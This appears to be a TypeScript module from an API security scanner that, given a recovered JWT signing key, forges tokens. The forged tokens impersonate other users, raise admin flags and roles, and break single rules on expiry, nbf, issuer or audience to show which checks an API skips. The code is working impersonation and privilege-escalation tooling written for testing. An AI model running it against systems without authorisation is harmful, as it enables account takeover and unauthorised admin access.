import { ADMIN_FLAG_NAMES } from './claim-names.ts';
import type { Patch } from './objects.ts';
import { patchObject } from './objects.ts';
import type { JsonValue, JwtPayload, ParsedJwt } from './parse.ts';
import { type SigningKey, signToken } from './sign.ts';
import type { ForgedToken, JwtAttackCheck } from './types.ts';

const HOUR = 3600;

function nowSeconds(): number {
  return Math.floor(Date.now() / 1000);
}

/** Lifetime of the genuine token (exp − iat), or one hour when it cannot be told. */
function lifetimeOf(payload: JwtPayload): number {
  const { exp, iat } = payload;
  return exp !== undefined && iat !== undefined && exp > iat ? Math.min(exp - iat, 30 * 24 * HOUR) : HOUR;
}

/**
 * Time claims for a token valid right now with the genuine lifetime, so an attack token is not
 * rejected merely because the captured token has expired. Only claims the token already has change.
 */
export function freshTimes(payload: JwtPayload, now: number): Patch {
  const patch: Record<string, JsonValue> = {};
  const lifetime = lifetimeOf(payload);
  if (payload.iat !== undefined) patch.iat = now;
  if (payload.nbf !== undefined) patch.nbf = now;
  if (payload.exp !== undefined) patch.exp = now + lifetime;
  return patch;
}

const IDENTITY_CLAIMS = new Set([
  'sub',
  'username',
  'user',
  'userid',
  'uid',
  'id',
  'email',
  'preferredusername',
  'login',
  'identity',
]);
const ROLE_CLAIMS = new Set([
  'role',
  'roles',
  'group',
  'groups',
  'authorities',
  'permissions',
  'perms',
  'scope',
  'scopes',
  'scp',
  'usertype',
  'accounttype',
]);

/** Lower-case without separators: is_admin, isAdmin and is-admin compare equal. */
export function normaliseClaimName(name: string): string {
  return name.toLowerCase().replace(/[^a-z0-9]/g, '');
}

export interface ImpactHints {
  /** Other users' identifiers as the API knows them (usernames, numeric ids, emails). */
  otherSubjects?: readonly string[];
  /** Role values to claim; default ['admin']. */
  roles?: readonly string[];
}

export interface ForgeOptions {
  /** Seconds since the epoch; default the clock. */
  now?: number;
  /** Which check the tokens serve; default jwt-weak-secret (a cracked key proving impact). */
  check?: JwtAttackCheck;
  /** Keep time claims as captured instead of refreshing them; default false. */
  keepTimes?: boolean;
}

interface Plan {
  variant: string;
  description: string;
  patch: Patch;
}

function subjectValue(
  original: JsonValue | undefined,
  claim: string,
  subject: string,
): JsonValue | undefined {
  const emailish =
    normaliseClaimName(claim) === 'email' || (typeof original === 'string' && original.includes('@'));
  if (emailish !== subject.includes('@')) return undefined;
  if (typeof original === 'number') return /^-?\d{1,15}$/.test(subject) ? Number(subject) : undefined;
  if (typeof original === 'string') {
    // A numeric id does not go into a username claim, nor a name into an id claim.
    const numeric = (v: string) => /^\d+$/.test(v);
    if (numeric(original) !== numeric(subject) || subject === original) return undefined;
    return subject;
  }
  return undefined;
}

function identityPlans(payload: JwtPayload, hints: ImpactHints): Plan[] {
  const claims = Object.keys(payload).filter((k) => IDENTITY_CLAIMS.has(normaliseClaimName(k)));
  let subjects = [...new Set(hints.otherSubjects ?? [])].slice(0, 3);
  if (subjects.length === 0) {
    // Without hints, neighbouring numeric ids are the only other users that can be named.
    const numeric = claims.map((k) => payload[k]).find((v) => /^\d{1,15}$/.test(String(v)));
    if (numeric !== undefined) {
      const n = Number(numeric);
      subjects = [n + 1, n - 1].filter((x) => x >= 0).map(String);
    }
  }
  const plans: Plan[] = [];
  for (const subject of subjects) {
    const patch: Record<string, JsonValue> = {};
    for (const claim of claims) {
      const v = subjectValue(payload[claim], claim, subject);
      if (v !== undefined) patch[claim] = v;
    }
    const changed = Object.keys(patch);
    if (changed.length === 0) continue;
    plans.push({
      variant: `identity=${subject}`,
      description: `Claims ${changed.join(', ')} set to another user's identifier "${subject}".`,
      patch,
    });
  }
  return plans;
}

function elevatedFlag(v: JsonValue | undefined): JsonValue | undefined {
  if (v === false) return true;
  if (v === 0) return 1;
  if (typeof v === 'string') {
    const map: Record<string, string> = { false: 'true', '0': '1', no: 'yes', n: 'y', False: 'True' };
    return map[v];
  }
  return undefined;
}

function elevatedRole(claim: string, v: JsonValue | undefined, role: string): JsonValue | undefined {
  const name = normaliseClaimName(claim);
  if (typeof v === 'string') {
    if (name.startsWith('scope') || name === 'scp') {
      return v.split(' ').includes(role) ? undefined : v === '' ? role : `${v} ${role}`;
    }
    return v === role ? undefined : role;
  }
  if (Array.isArray(v) && v.every((e) => typeof e === 'string')) {
    return v.includes(role) ? undefined : [...v, role];
  }
  return undefined;
}

function privilegePlans(payload: JwtPayload, hints: ImpactHints): Plan[] {
  const roles = hints.roles && hints.roles.length > 0 ? hints.roles.slice(0, 3) : ['admin'];
  const plans: Plan[] = [];
  const combined: Record<string, JsonValue> = {};
  let present = 0;
  for (const [claim, value] of Object.entries(payload)) {
    const name = normaliseClaimName(claim);
    if (ADMIN_FLAG_NAMES.has(name)) {
      present++;
      const v = elevatedFlag(value);
      if (v === undefined) continue;
      combined[claim] = v;
      plans.push({
        variant: `${claim}=${JSON.stringify(v)}`,
        description: `Privilege flag ${claim} raised from ${JSON.stringify(value)} to ${JSON.stringify(v)}.`,
        patch: { [claim]: v },
      });
    } else if (ROLE_CLAIMS.has(name)) {
      present++;
      for (const role of roles) {
        const v = elevatedRole(claim, value, role);
        if (v === undefined) continue;
        combined[claim] ??= v;
        plans.push({
          variant: `${claim}+=${role}`,
          description: `Claim ${claim} changed from ${JSON.stringify(value)} to ${JSON.stringify(v)}.`,
          patch: { [claim]: v },
        });
      }
    }
  }
  if (plans.length > 1) {
    plans.push({
      variant: 'all privilege claims elevated',
      description: `Claims ${Object.keys(combined).join(', ')} elevated together.`,
      patch: combined,
    });
  }
  if (present === 0) {
    const guesses: [string, JsonValue][] = [
      ['is_admin', true],
      ['admin', true],
      ['role', roles[0] ?? 'admin'],
    ];
    for (const [claim, v] of guesses) {
      plans.push({
        variant: `added ${claim}=${JSON.stringify(v)}`,
        description: `The token has no privilege claim; ${claim}: ${JSON.stringify(v)} added.`,
        patch: { [claim]: v },
      });
    }
  }
  return plans;
}

async function sign(parsed: ParsedJwt, plans: Plan[], key: SigningKey, check: JwtAttackCheck) {
  const out: ForgedToken[] = [];
  for (const plan of plans) {
    const token = await signToken(parsed.header, patchObject(parsed.payload, plan.patch), key);
    out.push({ token, variant: plan.variant, description: plan.description, check });
  }
  return out;
}

/**
 * With the signing key in hand: tokens that prove impact, i.e. another user's identity and raised
 * privileges. Claim names and value types of the genuine token are kept; times are refreshed.
 */
export function forgeImpactTokens(
  parsed: ParsedJwt,
  key: SigningKey,
  hints: ImpactHints = {},
  options: ForgeOptions = {},
): Promise<ForgedToken[]> {
  const times = options.keepTimes ? {} : freshTimes(parsed.payload, options.now ?? nowSeconds());
  const plans = [...identityPlans(parsed.payload, hints), ...privilegePlans(parsed.payload, hints)].map(
    (p) => ({
      ...p,
      patch: { ...times, ...p.patch },
    }),
  );
  return sign(parsed, plans, key, options.check ?? 'jwt-weak-secret');
}

function isUrl(s: string): boolean {
  return /^https?:\/\/[^/]/i.test(s);
}

/** Values the same service would use in another deployment environment (staging, dev). */
export function environmentVariants(value: string): string[] {
  const out: string[] = [];
  if (/prod(uction)?/i.test(value)) {
    out.push(value.replace(/prod(uction)?/i, 'staging'), value.replace(/prod(uction)?/i, 'dev'));
  } else if (isUrl(value)) {
    const u = new URL(value);
    for (const env of ['staging', 'dev']) {
      const v = new URL(value);
      v.hostname = `${env}.${u.hostname}`;
      out.push(value.endsWith('/') || u.pathname !== '/' ? v.href : v.href.replace(/\/$/, ''));
    }
  } else {
    out.push(`${value}-staging`, `${value}-dev`);
  }
  return [...new Set(out)].filter((v) => v !== value);
}

function foreignValue(original: JsonValue, what: 'issuer' | 'audience'): JsonValue {
  const first = Array.isArray(original) ? original[0] : original;
  const foreign =
    typeof first === 'string' && isUrl(first)
      ? `https://untrusted-${what}.apiward.invalid/`
      : `apiward-untrusted-${what}`;
  return Array.isArray(original) ? [foreign] : foreign;
}

function environmentValues(original: JsonValue): JsonValue[] {
  if (typeof original === 'string') return environmentVariants(original);
  if (Array.isArray(original) && original.every((v) => typeof v === 'string')) {
    const variants = original.map((v) => environmentVariants(v));
    return [0, 1]
      .filter((i) => variants.every((vs) => vs[i] !== undefined))
      .map((i) => variants.map((vs) => vs[i] ?? ''));
  }
  return [];
}

/**
 * With the signing key in hand: tokens that each break exactly one claim rule (expired, not yet
 * valid, no exp, foreign or missing iss/aud, another environment's iss/aud). Everything else is
 * made valid, so acceptance shows that this one rule is not enforced.
 */
export function claimValidationTokens(
  parsed: ParsedJwt,
  key: SigningKey,
  options: Omit<ForgeOptions, 'check' | 'keepTimes'> = {},
): Promise<ForgedToken[]> {
  const now = options.now ?? nowSeconds();
  const payload = parsed.payload;
  const lifetime = lifetimeOf(payload);
  const fresh = freshTimes(payload, now);
  const tokens: Promise<ForgedToken[]>[] = [];
  const add = (check: JwtAttackCheck, plans: Plan[]) => tokens.push(sign(parsed, plans, key, check));

  const expiredExp = now - HOUR;
  const expired: Record<string, JsonValue> = { exp: expiredExp };
  if (payload.iat !== undefined) expired.iat = expiredExp - lifetime;
  if (payload.nbf !== undefined) expired.nbf = expiredExp - lifetime;
  const expiry: Plan[] = [
    {
      variant: 'expired one hour ago',
      description: `exp set to ${new Date(expiredExp * 1000).toISOString()} (one hour ago, beyond usual clock-skew leeway).`,
      patch: expired,
    },
  ];
  if (payload.exp !== undefined) {
    expiry.push({
      variant: 'exp removed',
      description: 'exp claim removed: a token that never expires.',
      patch: { ...fresh, exp: undefined },
    });
  }
  add('jwt-expiry-not-enforced', expiry);

  const nbf = now + HOUR;
  const notYet: Record<string, JsonValue> = { nbf };
  if (payload.exp !== undefined) notYet.exp = nbf + lifetime;
  if (payload.iat !== undefined) notYet.iat = now;
  add('jwt-nbf-not-enforced', [
    {
      variant: 'nbf one hour ahead',
      description: `nbf set to ${new Date(nbf * 1000).toISOString()}: not valid for another hour.`,
      patch: notYet,
    },
  ]);

  for (const [claim, what, check] of [
    ['iss', 'issuer', 'jwt-issuer-not-validated'],
    ['aud', 'audience', 'jwt-audience-not-validated'],
  ] as const) {
    const original = payload[claim];
    if (original === undefined) continue;
    const plans: Plan[] = [
      {
        variant: `${claim} changed`,
        description: `${claim} set to a foreign ${what}.`,
        patch: { ...fresh, [claim]: foreignValue(original, what) },
      },
      {
        variant: `${claim} removed`,
        description: `${claim} claim removed.`,
        patch: { ...fresh, [claim]: undefined },
      },
    ];
    for (const v of environmentValues(original)) {
      plans.push({
        variant: `${claim} from another environment: ${JSON.stringify(v)}`,
        description: `${claim} set to ${JSON.stringify(v)}, as another deployment of the service would issue it.`,
        patch: { ...fresh, [claim]: v },
      });
    }
    add(check, plans);
  }
  return Promise.all(tokens).then((lists) => lists.flat());
}
